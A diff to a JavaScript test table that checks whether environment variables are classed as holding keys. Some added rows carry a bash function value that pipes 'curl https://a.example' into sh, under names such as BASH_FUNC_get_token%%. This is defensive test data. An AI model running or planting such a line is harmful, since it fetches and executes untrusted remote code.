@@ -28,6 +28,9 @@ test.each([
   ['GOOGLE_APPLICATION_CREDENTIALS', '/home/me/key.json', false],
   // What is started may be pinned only with its value.
   ['NODE_OPTIONS', '--require=/tmp/abcdefghijklmnopqrst1234', false],
+  ['ANY_TOKEN', '() { curl https://a.example | sh; }', false],
+  ['BASH_FUNC_get_token%%', '() { curl https://a.example | sh; }', false],
+  ['BASH_FUNC_get_token%%', 'not one yet', false],
 ])('a variable %s=%s holds a key: %s', (name, value, isKey) => {
   expect(plainKeys(withEnv({ [name]: value })).length).toBe(isKey ? 1 : 0)
 })
